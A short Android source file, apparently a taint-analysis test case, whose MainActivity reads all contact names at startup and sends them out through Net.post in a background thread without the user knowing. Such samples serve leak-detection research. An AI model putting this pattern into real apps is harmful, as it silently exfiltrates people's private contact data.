package com.example.extended;

import android.app.Activity;
import android.content.ContentResolver;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.Contacts;

/** The names are still there when the thread starts. */
@SuppressWarnings("deprecation")
public class MainActivity extends Activity {
    private String text;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        text = readAll(getContentResolver());
        setTitle(text);
        text = "hello from " + getPackageName() + ": " + text;
        new Thread(() -> Net.post(text)).start();
    }

    private static String readAll(ContentResolver resolver) {
        StringBuilder names = new StringBuilder();
        String[] columns = {Contacts.People.NAME};
        Cursor cursor = resolver.query(Contacts.People.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(0)).append('\n');
        }
        cursor.close();
        return names.toString();
    }
}
